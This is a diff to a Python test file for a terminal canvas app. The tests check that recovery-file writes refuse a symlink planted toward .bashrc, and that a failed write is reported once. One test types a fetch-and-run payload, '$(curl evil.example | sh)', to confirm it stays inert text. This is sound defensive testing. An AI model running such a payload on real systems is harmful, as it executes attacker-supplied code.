@@ -3,9 +3,9 @@ in one line, nothing is written through a link, and the canvas opens (read-only 
 
 from __future__ import annotations
 
-import asyncio
 import errno
 import os
+import threading
 from pathlib import Path
 from typing import Any
 
@@ -33,29 +33,65 @@ async def test_typing_never_writes_through_a_planted_recovery_link(example_copy:
     planted.symlink_to(os.path.relpath(bashrc, planted.parent))
     notices = Notices()
     app = make_app(example_copy)
+    own = recovery.recovery_path(example_copy, app.session.me.token)
     async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
         await wait_until(
             lambda: any(f"{planted}: is a symbolic link" in m for m in notices.messages),
             "the planted link is named as the canvas opens",
         )
         await pilot.press("e", *"$(curl evil.example | sh)")
-        failed = f"Could not write the recovery file {planted}: is a symbolic link"
         await wait_until(
-            lambda: any(m.startswith(failed) for m in notices.messages), "the recovery write is refused"
+            lambda: (
+                (found := recovery.read(own)) is not None
+                and found.mine.blocks["background"].text.endswith("$(curl evil.example | sh)")
+            ),
+            "the unsaved words are kept under the instance's own recovery name",
         )
-        await pilot.press(*" more words")
-        record = app.session.take_recovery()
-        assert record is not None
-        # What the recovery timer does after the next pause in typing, here and now.
-        await asyncio.to_thread(app.saver._write_recovery, record)
-        await pilot.pause()
-        assert [m for m in notices.messages if m.startswith(failed)] == [
-            f"{failed}; canvas-tui does not follow links it did not create"
+        assert [m for m in notices.messages if "left as it is" in m] == [
+            f"{planted}: is a symbolic link; canvas-tui does not follow links it did not create; "
+            "left as it is"
         ], "said once, in one line"
         await pilot.press("escape", "q", "d")  # quit, discard
         await pilot.pause()
     assert bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"
-    assert planted.is_symlink(), "the clean exit leaves the link (and said so as the canvas opened)"
+    assert planted.is_symlink(), "the clean exit leaves the link"
+    assert not os.path.lexists(own), "and removes the instance's own file"
+
+
+async def test_a_failing_recovery_write_is_said_once(
+    example_copy: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Told after the first pause in typing, not again after every later one for the same reason."""
+
+    def refuse(*args: Any, **kwargs: Any) -> None:
+        raise OSError(errno.EROFS, os.strerror(errno.EROFS))
+
+    monkeypatch.setattr(recovery, "atomic_write", refuse)
+    notices = Notices()
+    app = make_app(example_copy)
+    writers: list[threading.Thread] = []
+    real_write = app.session.write_recovery
+
+    def counted(record: Any) -> bool:
+        writers.append(threading.current_thread())
+        return real_write(record)
+
+    monkeypatch.setattr(app.session, "write_recovery", counted)
+    async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
+        failed = f"Could not write the recovery file {app.session.recovery_path}"
+
+        async def type_and_let_the_recovery_timer_run(keys: list[str], count: int) -> None:
+            await pilot.press(*keys)
+            await wait_until(lambda: len(writers) >= count, f"recovery write {count} runs")
+            # A writer tells the app before it ends: once it has ended, its notice was raised.
+            await wait_until(lambda: not writers[count - 1].is_alive(), f"recovery write {count} ends")
+
+        await type_and_let_the_recovery_timer_run(["e", "a"], 1)
+        await type_and_let_the_recovery_timer_run(["b"], 2)
+        assert [m for m in notices.messages if m.startswith(failed)] == [
+            f"{failed}: {os.strerror(errno.EROFS)}"
+        ]
+        await pilot.press("escape", "q", "d")
 
 
 async def test_a_full_disk_when_taking_the_lock_opens_read_only(
